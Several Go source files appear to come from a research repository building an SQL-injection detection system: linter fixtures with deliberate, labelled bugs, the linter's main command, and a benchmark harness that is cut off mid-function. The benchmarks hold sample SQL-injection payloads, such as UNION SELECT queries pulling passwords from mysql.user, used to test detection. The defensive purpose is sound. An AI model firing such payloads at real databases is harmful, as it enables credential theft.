	n, err := run([]string{"./errs"}, filepath.Join("testdata", "src"), &buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != 2 {
		t.Fatalf("scoped run returned %d findings, want 2", n)
	}
	if strings.Contains(buf.String(), "matrix.go") {
		t.Errorf("scoped run leaked findings from unselected packages:\n%s", buf.String())
	}
}
