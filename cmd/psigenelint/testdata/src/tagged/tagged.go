// Package tagged is a fixture for the loader's build-constraint support:
// excluded.go declares a clashing modeName behind a never-true tag (the
// run only succeeds if the loader skips it), and included_gc.go provides
// the real one behind the always-true gc tag with a deliberate errcheck
// violation proving constrained-true files are still analyzed.
package tagged

// Mode reports which file variant built.
func Mode() string { return modeName() }
