//go:build gc

package tagged

import "os"

// modeName carries a deliberate errcheck violation: the gc tag is true
// under the analyzing toolchain, so the loader must parse this file and
// the analyzers must report it.
func modeName() string {
	os.Remove("included")
	return "gc"
}
