//go:build neverbuild

// This file never builds: the tag is satisfied on no platform. If the
// loader parsed it anyway, the duplicate modeName declaration would fail
// type checking, and the errcheck violation below would pollute the
// golden output — the clean run is the proof of exclusion.
package tagged

import "os"

func modeName() string {
	os.Remove("excluded")
	return "excluded"
}
