// Package cluster is a fixture for the leakcheck analyzer: the
// import-path suffix matches the concurrency scope, so every goroutine
// spawned here must carry a provable termination signal.
package cluster

import "sync"

// Fire spawns a goroutine with no termination signal (leakcheck): no
// WaitGroup, no channel, nothing ever joins or stops it.
func Fire(n *int) {
	go func() {
		*n++
	}()
}

// Spin drains events forever: the receive is a signal, but the `for {}`
// has no return or break, so the goroutine can never exit (leakcheck).
func Spin(events chan int, total *int) {
	go func() {
		for {
			*total += <-events
		}
	}()
}

// Joined is the clean pattern: the WaitGroup joins the goroutine.
func Joined(n *int) {
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		*n++
	}()
	wg.Wait()
}

// Quiet has no signal either, but the directive suppresses the finding —
// the suppression proof for leakcheck.
func Quiet(n *int) {
	//lint:ignore leakcheck fixture demonstrating suppression
	go func() {
		*n++
	}()
}
