// Package matrix is a fixture kernel package: its import-path suffix
// matches the analyzer's kernel list, so the determinism checks apply.
// Every function below carries exactly one deliberate violation.
package matrix

import (
	"math/rand"
	"time"
)

// SumWeights accumulates floats out of a map range — iteration order is
// random, so the sum's bits vary run to run (maporder).
func SumWeights(ws map[string]float64) float64 {
	var sum float64
	for _, w := range ws {
		sum += w
	}
	return sum
}

// Stamp reads the wall clock inside a kernel (walltime).
func Stamp() int64 {
	return time.Now().UnixNano()
}

// Noise draws from math/rand inside a kernel; the import itself is the
// violation (randsource).
func Noise() float64 {
	return rand.Float64()
}
