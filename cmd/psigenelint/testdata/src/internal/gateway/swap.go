// Package gateway is a fixture for the atomicguard validate-probe-swap
// rule: the import-path suffix matches the probe-gated scope, so every
// non-nil store into an atomic.Pointer needs a probe call in the same
// function.
package gateway

import "sync/atomic"

// Model is the hot-swapped serving state.
type Model struct{ gen uint64 }

// probe validates a candidate before it may serve.
func probe(m *Model) bool { return m != nil }

// Install stores a candidate without probing it (atomicguard): a corrupt
// model push becomes the serving detector.
func Install(slot *atomic.Pointer[Model], m *Model) {
	slot.Store(m)
}

// InstallChecked follows validate-probe-swap: the probe gates the store.
func InstallChecked(slot *atomic.Pointer[Model], m *Model) bool {
	if !probe(m) {
		return false
	}
	slot.Store(m)
	return true
}

// InstallQuiet skips the probe under a directive — the suppression proof.
func InstallQuiet(slot *atomic.Pointer[Model], m *Model) {
	//lint:ignore atomicguard fixture demonstrating suppression
	slot.Store(m)
}

// Clear swaps nil in: clearing a slot installs nothing to validate.
func Clear(slot *atomic.Pointer[Model]) {
	slot.Swap(nil)
}
