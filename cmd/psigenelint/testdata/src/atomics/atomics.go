// Package atomics is a fixture for the atomicguard mixed-access rule.
package atomics

import "sync/atomic"

// Counter counts hits; the field is accessed through sync/atomic.
type Counter struct {
	hits int64
}

// Incr is the sanctioned access path.
func (c *Counter) Incr() {
	atomic.AddInt64(&c.hits, 1)
}

// Snapshot reads the same field plainly (atomicguard): this load races
// with every concurrent Incr.
func (c *Counter) Snapshot() int64 {
	return c.hits
}

// Reset also writes it plainly, but the directive suppresses the finding
// — the golden test proves suppression by the absence of a report here.
func (c *Counter) Reset() {
	//lint:ignore atomicguard fixture demonstrating suppression
	c.hits = 0
}
