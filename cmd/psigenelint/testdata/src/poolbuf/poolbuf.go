// Package poolbuf is a fixture for the poolescape analyzer. Every
// function below carries exactly one deliberate violation of the pool
// recycling discipline, except the suppressed proof at the bottom.
package poolbuf

import "sync"

var bufPool = sync.Pool{New: func() any { return make([]byte, 0, 512) }}

// UseAfterPut reads the buffer after handing it back (poolescape).
func UseAfterPut(data []byte) int {
	buf := bufPool.Get().([]byte)
	n := copy(buf[:cap(buf)], data)
	bufPool.Put(buf)
	return n + len(buf)
}

// EarlyLeak returns before the Put on the empty-input path (poolescape).
func EarlyLeak(data []byte) int {
	buf := bufPool.Get().([]byte)
	if len(data) == 0 {
		return 0
	}
	n := copy(buf[:cap(buf)], data)
	bufPool.Put(buf)
	return n
}

// DeferredReturn hands the caller a buffer the deferred Put releases on
// return (poolescape).
func DeferredReturn(data []byte) []byte {
	buf := bufPool.Get().([]byte)
	defer bufPool.Put(buf)
	n := copy(buf[:cap(buf)], data)
	return buf[:n]
}

// AliasAfterPut reads a sub-slice of the buffer after the Put
// (poolescape): the alias points into recycled memory.
func AliasAfterPut(data []byte) byte {
	buf := bufPool.Get().([]byte)
	head := buf[:1]
	copy(head, data)
	bufPool.Put(buf)
	return head[0]
}

// Clean is the correct shape: Get, deferred Put, nothing escapes.
func Clean(data []byte) int {
	buf := bufPool.Get().([]byte)
	defer bufPool.Put(buf)
	return copy(buf[:cap(buf)], data)
}

// Quiet carries the UseAfterPut violation under a directive — the golden
// test proves suppression works by the absence of a finding here.
func Quiet(data []byte) int {
	buf := bufPool.Get().([]byte)
	bufPool.Put(buf)
	//lint:ignore poolescape fixture demonstrating suppression
	return len(buf)
}
