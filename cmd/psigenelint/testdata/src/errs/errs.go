// Package errs is a fixture for the error-discipline analyzers.
package errs

import (
	"fmt"
	"os"
)

// Cleanup discards the error from os.Remove (errcheck).
func Cleanup(path string) {
	os.Remove(path)
}

// Describe flattens err out of the chain with %v (errwrap).
func Describe(err error) error {
	return fmt.Errorf("describe: %v", err)
}

// Quiet also discards an error, but the suppression directive keeps it
// out of the report — the golden test proves lint:ignore works by the
// absence of a finding on this line.
func Quiet(path string) {
	//lint:ignore errcheck fixture demonstrating suppression
	os.Remove(path)
}
