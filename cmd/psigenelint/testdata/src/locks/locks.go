// Package locks is a fixture for the lockorder and mutexspan analyzers.
package locks

import "sync"

var (
	reloadMu  sync.Mutex
	breakerMu sync.Mutex
)

// Swap acquires reloadMu before breakerMu.
func Swap() {
	reloadMu.Lock()
	breakerMu.Lock()
	breakerMu.Unlock()
	reloadMu.Unlock()
}

// Trip acquires them in the opposite order (lockorder): with Swap
// running concurrently this deadlocks on the right interleaving.
func Trip() {
	breakerMu.Lock()
	reloadMu.Lock()
	reloadMu.Unlock()
	breakerMu.Unlock()
}

// Detector stands in for the serving hot dependency.
type Detector struct{ mu sync.Mutex }

// Inspect is the hot call no lock may span.
func (d *Detector) Inspect(s string) bool { return len(s) > 0 }

// Guarded calls Inspect with the lock held (mutexspan).
func (d *Detector) Guarded(s string) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.Inspect(s)
}

// Quiet does the same under a directive — the suppression proof.
func (d *Detector) Quiet(s string) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	//lint:ignore mutexspan fixture demonstrating suppression
	return d.Inspect(s)
}
