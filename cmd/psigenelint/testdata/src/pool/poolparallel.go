// Package pool is a fixture worker pool; the *parallel*.go file name
// opts this file into the parallel-hygiene analyzers.
package pool

import "sync"

// Total fans out over parts and accumulates into captured shared state:
// the goroutine's direct use of the loop variable is flagged
// (loopcapture) and the non-indexed write to total is flagged
// (sharedwrite).
func Total(parts [][]float64) float64 {
	var total float64
	var wg sync.WaitGroup
	for _, part := range parts {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, v := range part {
				total += v
			}
		}()
	}
	wg.Wait()
	return total
}
