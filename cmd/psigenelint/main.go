// Command psigenelint runs the repository's analyzer suite: code
// analyzers enforcing the determinism, parallel-hygiene,
// error-discipline and concurrency invariants (pool escape, atomic
// access, lock order and span, goroutine leaks), and catalog analyzers
// reporting signature-set flaws (duplicate, subsumed and never-matching
// features, redundant case classes, prefilter-opaque patterns that
// defeat the serving fast path, dead signatures) in the compiled feature
// catalog and, with -model, in a trained signature set.
//
//	psigenelint [-json] [-model file] [-corpus n] [-checks a,b]
//	            [-baseline file] [-write-baseline file] [-time] [packages]
//
// Packages are go-style directory patterns relative to the module root
// (default "./..."). The exit status is nonzero when any diagnostic is
// reported. Findings are suppressed in source with
// `//lint:ignore <check> <reason>` on the flagged line or the line above,
// or `//lint:file-ignore <check> <reason>` for a whole file.
//
// With -baseline, findings recorded in the committed baseline file are
// accepted (each entry carries a mandatory reason) and only new findings
// fail the run; entries whose finding no longer exists are reported as
// stale so the baseline shrinks as debt is paid. -write-baseline
// regenerates the file from the current findings, carrying existing
// reasons forward and stamping new entries with a placeholder the loader
// rejects — a human must justify each one before the file can gate CI.
// -time prints per-analyzer wall time to stderr.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"psigene/internal/analysis"
	"psigene/internal/core"
	"psigene/internal/feature"
)

func main() {
	findings, err := run(os.Args[1:], "", os.Stdout)
	if err != nil {
		fmt.Fprintln(os.Stderr, "psigenelint:", err)
		os.Exit(2)
	}
	if findings > 0 {
		os.Exit(1)
	}
}

// run executes the lint pass and returns the number of findings. root
// overrides module-root discovery (tests point it at fixture modules);
// when empty the root is found by walking up from the working directory
// to the nearest go.mod.
func run(args []string, root string, w io.Writer) (int, error) {
	fs := flag.NewFlagSet("psigenelint", flag.ContinueOnError)
	fs.SetOutput(w)
	var (
		jsonOut   = fs.Bool("json", false, "emit diagnostics as a JSON array")
		modelPath = fs.String("model", "", "trained model file to run the signature checks against")
		corpusN   = fs.Int("corpus", analysis.DefaultProbeSamples, "probe-corpus samples per attackgen profile (0 disables corpus checks)")
		seed      = fs.Int64("seed", analysis.DefaultProbeSeed, "probe-corpus generator seed")
		checks    = fs.String("checks", "", "comma-separated check names to report (default all)")
		baseline  = fs.String("baseline", "", "accepted-findings file: only findings not in it fail the run")
		writeBase = fs.String("write-baseline", "", "regenerate the baseline file from current findings and exit")
		timing    = fs.Bool("time", false, "print per-analyzer wall time to stderr")
	)
	if err := fs.Parse(args); err != nil {
		return 0, err
	}
	patterns := fs.Args()

	if root == "" {
		var err error
		if root, err = findModuleRoot(); err != nil {
			return 0, err
		}
	}
	loadStart := time.Now()
	prog, err := analysis.Load(root)
	if err != nil {
		return 0, err
	}
	if *timing {
		fmt.Fprintf(os.Stderr, "%-12s %8.1fms\n", "load", time.Since(loadStart).Seconds()*1000)
	}
	pkgs := prog.Select(patterns)
	if len(pkgs) == 0 {
		return 0, fmt.Errorf("no packages match %v", patterns)
	}

	var ds []analysis.Diagnostic
	if *timing {
		for _, a := range analysis.CodeAnalyzers() {
			start := time.Now()
			ds = append(ds, prog.RunCode(pkgs, []*analysis.CodeAnalyzer{a})...)
			fmt.Fprintf(os.Stderr, "%-12s %8.1fms\n", a.Name, time.Since(start).Seconds()*1000)
		}
	} else {
		ds = prog.RunCode(pkgs, analysis.CodeAnalyzers())
	}

	// The probe corpus backs both the catalog corpus checks and the
	// -model audit; synthesize it once.
	var corpus []string
	if *corpusN > 0 {
		corpus = analysis.ProbeCorpus(*corpusN, *seed)
	}

	// The catalog checks run whenever the selection includes the feature
	// package (so `psigenelint ./...` always audits the signature
	// catalog, while a scoped run of another package does not).
	if featPkg := prog.Package("internal/feature"); featPkg != nil && selected(pkgs, featPkg) {
		cds := analysis.CheckCatalog(feature.Catalog(), corpus, analysis.FeatureAnchors(prog), 0)
		for _, d := range cds {
			if !prog.Suppressed(d) {
				ds = append(ds, d)
			}
		}
	}

	// The -model audit goes through the same library entrypoint the
	// lifecycle gate uses (deadsig, plus corpus-driven nevermatch and
	// subsumed over the model's observed features).
	if *modelPath != "" {
		m, err := core.LoadFile(*modelPath)
		if err != nil {
			return 0, fmt.Errorf("loading model: %w", err)
		}
		ds = append(ds, analysis.AuditModel(m, corpus, *modelPath)...)
	}

	if *checks != "" {
		allow := make(map[string]bool)
		for _, c := range strings.Split(*checks, ",") {
			allow[strings.TrimSpace(c)] = true
		}
		ds = analysis.Filter(ds, allow)
	}
	analysis.SortDiagnostics(ds)

	if *writeBase != "" {
		prev, _ := analysis.ReadBaseline(*writeBase)
		if err := analysis.WriteBaseline(*writeBase, ds, prev); err != nil {
			return 0, err
		}
		fmt.Fprintf(w, "wrote %d baseline entries to %s\n", len(ds), *writeBase)
		return 0, nil
	}

	var stale []analysis.BaselineEntry
	if *baseline != "" {
		b, err := analysis.LoadBaseline(*baseline)
		if err != nil {
			return 0, err
		}
		ds, stale = b.Apply(ds)
	}
	// Stale notices go to stderr: they must not perturb the byte-identical
	// stdout contract or the JSON array, and they are advice, not findings.
	for _, e := range stale {
		fmt.Fprintf(os.Stderr, "psigenelint: stale baseline entry (finding fixed, delete it): %s: %s: %s\n", e.File, e.Check, e.Message)
	}

	if *jsonOut {
		enc := json.NewEncoder(w)
		enc.SetIndent("", "\t")
		if err := enc.Encode(ds); err != nil {
			return 0, err
		}
		return len(ds), nil
	}
	for _, d := range ds {
		fmt.Fprintln(w, d)
	}
	if len(ds) > 0 {
		fmt.Fprintf(w, "%d findings\n", len(ds))
	}
	return len(ds), nil
}

func selected(pkgs []*analysis.Package, want *analysis.Package) bool {
	for _, p := range pkgs {
		if p == want {
			return true
		}
	}
	return false
}

func findModuleRoot() (string, error) {
	dir, err := os.Getwd()
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("no go.mod found above %s", dir)
		}
		dir = parent
	}
}
