// Package psigene_bench is the repository's benchmark harness: one
// benchmark per table and figure of the paper (regenerating its rows or
// series each iteration, with the headline rates attached as custom
// metrics), plus ablation and micro benchmarks for the design choices
// DESIGN.md calls out. Run with:
//
//	go test -bench=. -benchmem
package psigene_bench

import (
	"net/http/httptest"
	"sync"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/cluster"
	"psigene/internal/core"
	"psigene/internal/experiments"
	"psigene/internal/feature"
	"psigene/internal/gateway"
	"psigene/internal/ids"
	"psigene/internal/matrix"
	"psigene/internal/ml"
	"psigene/internal/normalize"
	"psigene/internal/perdisci"
	"psigene/internal/ruleset"
	"psigene/internal/scanner"
	"psigene/internal/sqlmini"
	"psigene/internal/traffic"
	"psigene/internal/webapp"
)

// benchScale keeps every experiment benchmark affordable while preserving
// the shapes; the evalharness binary reruns the same code at any scale.
func benchScale() experiments.Scale {
	return experiments.Scale{
		TrainAttacks: 1500,
		TrainBenign:  4000,
		SQLMapTests:  600,
		ArachniTests: 300,
		VegaTests:    300,
		BenignTests:  8000,
		Seed:         1,
	}
}

var (
	envOnce sync.Once
	envVal  *experiments.Env
	envErr  error
)

func benchEnv(b *testing.B) *experiments.Env {
	b.Helper()
	envOnce.Do(func() {
		envVal, envErr = experiments.Setup(benchScale())
	})
	if envErr != nil {
		b.Fatalf("setup: %v", envErr)
	}
	return envVal
}

// --- one benchmark per table ------------------------------------------------

func BenchmarkTable1Coverage(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Table1(1); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkTable2FeatureSources(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if experiments.Table2() == nil {
			b.Fatal("nil table")
		}
	}
}

func BenchmarkTable3SignatureFeatures(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := experiments.Table3(env); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkTable4Rulesets(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if experiments.Table4() == nil {
			b.Fatal("nil table")
		}
	}
}

func BenchmarkTable5Accuracy(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	var rows []experiments.AccuracyRow
	for i := 0; i < b.N; i++ {
		rows, _ = experiments.Table5(env)
	}
	for _, r := range rows {
		if r.System == "pSigene ("+itoa(len(env.Model9.Signatures))+" signatures)" {
			b.ReportMetric(r.TPRSQLMap*100, "TPR%")
			b.ReportMetric(r.FPR*100, "FPR%")
		}
	}
}

func BenchmarkTable6ClusterDetail(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if experiments.Table6(env) == nil {
			b.Fatal("nil table")
		}
	}
}

// --- one benchmark per figure -----------------------------------------------

func BenchmarkFigure2Heatmap(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, _, err := experiments.Figure2(env, 300); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFigure3ROC(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	var rocs []experiments.SignatureROC
	for i := 0; i < b.N; i++ {
		var err error
		rocs, err = experiments.Figure3(env)
		if err != nil {
			b.Fatal(err)
		}
	}
	best := 0.0
	for _, r := range rocs {
		if r.AUC > best {
			best = r.AUC
		}
	}
	b.ReportMetric(best, "bestAUC")
}

func BenchmarkFigure4CumulativeTPR(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	var rows []experiments.CumulativeTPR
	for i := 0; i < b.N; i++ {
		rows = experiments.Figure4(env)
	}
	if len(rows) > 0 {
		b.ReportMetric(rows[len(rows)-1].Cumulative*100, "cumTPR%")
	}
}

// --- the numbered experiments -----------------------------------------------

func BenchmarkExp2Incremental(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	var rows []experiments.IncrementalResult
	for i := 0; i < b.N; i++ {
		var err error
		rows, err = experiments.Experiment2(env)
		if err != nil {
			b.Fatal(err)
		}
	}
	if len(rows) == 3 {
		b.ReportMetric(rows[2].TPR*100, "TPR+40%")
	}
}

func BenchmarkExp3Perdisci(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	var res *experiments.PerdisciResult
	for i := 0; i < b.N; i++ {
		var err error
		res, err = experiments.Experiment3(env)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(res.TPRUnseen*100, "unseenTPR%")
	b.ReportMetric(res.TPRTrain*100, "trainTPR%")
}

// Experiment 4 is the per-request processing time; testing.B's ns/op IS the
// measurement, one benchmark per system.

func benchInspect(b *testing.B, d ids.Detector) {
	env := benchEnv(b)
	reqs := env.SQLMap
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.Inspect(reqs[i%len(reqs)])
	}
}

func BenchmarkExp4ProcessingTimePSigeneCountAll(b *testing.B) {
	env := benchEnv(b)
	d, err := core.NewCountAllDetector(env.Model9)
	if err != nil {
		b.Fatal(err)
	}
	benchInspect(b, d)
}

func BenchmarkExp4ProcessingTimePSigeneShared(b *testing.B) {
	benchInspect(b, benchEnv(b).Model9)
}

func BenchmarkExp4ProcessingTimeModSec(b *testing.B) {
	benchInspect(b, benchEnv(b).ModSec)
}

func BenchmarkExp4ProcessingTimeBro(b *testing.B) {
	benchInspect(b, benchEnv(b).Bro)
}

func BenchmarkExp4ProcessingTimeSnortET(b *testing.B) {
	benchInspect(b, benchEnv(b).SnortET)
}

// --- ablations ----------------------------------------------------------------

func BenchmarkAblationBinaryFeatures(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	var row *experiments.AblationRow
	for i := 0; i < b.N; i++ {
		var err error
		row, err = experiments.AblationBinaryFeatures(env)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(row.TPR*100, "TPR%")
}

func BenchmarkAblationGlobalLR(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	var row *experiments.AblationRow
	for i := 0; i < b.N; i++ {
		var err error
		row, err = experiments.AblationGlobalLR(env)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(row.TPR*100, "TPR%")
}

func BenchmarkAblationThresholdSweep(b *testing.B) {
	env := benchEnv(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		experiments.ThresholdSweep(env, []float64{0.1, 0.5, 0.9})
	}
}

// --- micro benchmarks for the substrates --------------------------------------

func BenchmarkNormalize(b *testing.B) {
	payload := "id=1%27%20UNION%20SELECT%20user,password%20FROM%20mysql.user%20WHERE%201=1--"
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		normalize.Normalize(payload)
	}
}

func BenchmarkFeatureExtraction(b *testing.B) {
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		b.Fatal(err)
	}
	sample := normalize.Normalize("id=-1+union+select+1,concat(database(),char(58),user()),3+from+information_schema.tables--+")
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ex.Vector(sample)
	}
}

func BenchmarkUPGMA500(b *testing.B) {
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), 1)
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		b.Fatal(err)
	}
	var samples []string
	for len(samples) < 500 {
		samples = append(samples, normalize.Normalize(gen.Sample().Request.Payload()))
	}
	m, err := ex.Matrix(samples)
	if err != nil {
		b.Fatal(err)
	}
	dist := matrix.PairwiseDistances(m)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := cluster.UPGMA(dist, nil); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkLogisticTrainPCG(b *testing.B) {
	env := benchEnv(b)
	_ = env
	// A representative per-signature training problem: 400 samples,
	// 12 features.
	rows := make([][]float64, 400)
	y := make([]float64, 400)
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), 3)
	ben := traffic.NewGenerator(4)
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		b.Fatal(err)
	}
	for i := range rows {
		var payload string
		if i%2 == 0 {
			payload = gen.Sample().Request.Payload()
			y[i] = 1
		} else {
			payload = ben.Request().Payload()
		}
		rows[i] = ex.Vector(normalize.Normalize(payload))[:12]
	}
	x, err := matrix.NewFromRows(rows)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ml.TrainLogistic(x, y, nil, ml.TrainOptions{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkFullPipelineTrain(b *testing.B) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(800)
	benign := traffic.NewGenerator(2).Requests(2000)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := core.Train(attacks, benign, core.Config{}); err != nil {
			b.Fatal(err)
		}
	}
}

// --- serial-vs-parallel training pairs ---------------------------------------
//
// The same default corpus as BenchmarkFullPipelineTrain, trained at fixed
// worker counts. The models are bit-identical (the parity tests enforce ==),
// so the pairs measure wall clock only; EXPERIMENTS.md records them.

func benchTrainParallel(b *testing.B, workers int) {
	b.Helper()
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(800)
	benign := traffic.NewGenerator(2).Requests(2000)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := core.Train(attacks, benign, core.Config{Parallelism: workers}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkTrainParallel1(b *testing.B) { benchTrainParallel(b, 1) }

func BenchmarkTrainParallel2(b *testing.B) { benchTrainParallel(b, 2) }

func BenchmarkTrainParallelMax(b *testing.B) { benchTrainParallel(b, 0) }

func BenchmarkPerdisciTrain(b *testing.B) {
	train := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(400)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := perdisci.Train(train, perdisci.Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkRuleEngineCompile(b *testing.B) {
	rs := ruleset.SnortET()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ids.NewRuleEngine(rs, ids.Options{IncludeDisabled: true}); err != nil {
			b.Fatal(err)
		}
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf []byte
	for n > 0 {
		buf = append([]byte{byte('0' + n%10)}, buf...)
		n /= 10
	}
	return string(buf)
}

func BenchmarkSQLMiniExec(b *testing.B) {
	db := sqlmini.NewDB()
	db.Create("users", []string{"id", "name", "password"}, [][]sqlmini.Value{
		{sqlmini.Number(1), sqlmini.Str("alice"), sqlmini.Str("pw1")},
		{sqlmini.Number(2), sqlmini.Str("bob"), sqlmini.Str("pw2")},
	})
	queries := []string{
		"SELECT * FROM users WHERE id = 1",
		"SELECT * FROM users WHERE name = '' or '1'='1'",
		"SELECT name FROM users WHERE id = -1 UNION SELECT password FROM users",
		"SELECT concat(database(), char(58), version())",
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := db.Exec(queries[i%len(queries)]); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkScannerFullScan(b *testing.B) {
	app := webapp.New(12)
	srv := httptest.NewServer(app)
	defer srv.Close()
	var pages []scanner.Page
	for _, v := range app.Vulnerabilities() {
		pages = append(pages, scanner.Page{Path: v.Path, Param: v.Param, Benign: v.BenignValue})
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s := scanner.New(srv.URL, scanner.Options{Client: srv.Client()})
		if _, err := s.Scan(pages); err != nil {
			b.Fatal(err)
		}
	}
}

// --- sparse-substrate micro benchmarks --------------------------------------
//
// Dense/sparse pairs over the same inputs; the sparse side is the pipeline
// default, the dense side the reference backing. EXPERIMENTS.md records the
// measured ratios.

func sparseBenchSamples(n, seed int) []string {
	gen := attackgen.NewGenerator(attackgen.CrawlProfile(), int64(seed))
	samples := make([]string, n)
	for i := range samples {
		samples[i] = normalize.Normalize(gen.Sample().Request.Payload())
	}
	return samples
}

func BenchmarkDenseFeaturize(b *testing.B) {
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		b.Fatal(err)
	}
	samples := sparseBenchSamples(64, 5)
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ex.Vector(samples[i%len(samples)])
	}
}

func BenchmarkSparseFeaturize(b *testing.B) {
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		b.Fatal(err)
	}
	samples := sparseBenchSamples(64, 5)
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ex.SparseVector(samples[i%len(samples)])
	}
}

func BenchmarkDensePairwiseDistances(b *testing.B) {
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		b.Fatal(err)
	}
	m, err := ex.Matrix(sparseBenchSamples(500, 6))
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		matrix.PairwiseDistances(m)
	}
}

func BenchmarkSparsePairwiseDistances(b *testing.B) {
	ex, err := feature.NewExtractor(feature.Catalog())
	if err != nil {
		b.Fatal(err)
	}
	m, err := ex.SparseMatrix(sparseBenchSamples(500, 6))
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		matrix.PairwiseDistances(m)
	}
}

func sparseBenchModel(b *testing.B) *core.Model {
	b.Helper()
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 31).Requests(800)
	benign := traffic.NewGenerator(32).Requests(1500)
	m, err := core.Train(attacks, benign, core.Config{})
	if err != nil {
		b.Fatal(err)
	}
	return m
}

// BenchmarkDenseMatch scores mixed traffic through the dense reference
// path: full observed-feature vector, then each signature's restricted dot
// product.
func BenchmarkDenseMatch(b *testing.B) {
	m := sparseBenchModel(b)
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 33).Requests(100),
		traffic.NewGenerator(34).Requests(400)...,
	)
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		req := probes[i%len(probes)]
		full := m.Vector(req)
		for _, s := range m.Signatures {
			if s.Probability(full) >= s.Threshold {
				break
			}
		}
	}
}

// BenchmarkSparseMatch scores the same traffic through the serving hot
// path: pooled sparse extraction plus per-signature weight-index lookups,
// O(request nonzeros) per request.
func BenchmarkSparseMatch(b *testing.B) {
	m := sparseBenchModel(b)
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 33).Requests(100),
		traffic.NewGenerator(34).Requests(400)...,
	)
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		m.Inspect(probes[i%len(probes)])
	}
}

// BenchmarkGatewayThroughput measures the serving path end to end: the
// trained signature set behind the reverse proxy, scoring a mixed stream
// and forwarding survivors to the demo webapp over real HTTP. The
// "forward" case pays scoring plus the upstream round trip; "blocked"
// isolates the gateway's own verdict path (the injection never leaves the
// proxy).
func BenchmarkGatewayThroughput(b *testing.B) {
	env := benchEnv(b)
	up := httptest.NewServer(webapp.New(50))
	defer up.Close()
	g, err := gateway.New(up.URL, env.Model9, gateway.Options{})
	if err != nil {
		b.Fatal(err)
	}
	// Split the generated streams by the model's own verdict so each
	// sub-benchmark measures one path purely: "forward" never trips a
	// false positive mid-run, "blocked" never forwards a miss.
	var forwards, blocked []string
	for _, r := range traffic.NewGenerator(61).Requests(200) {
		if !env.Model9.Inspect(r).Alert {
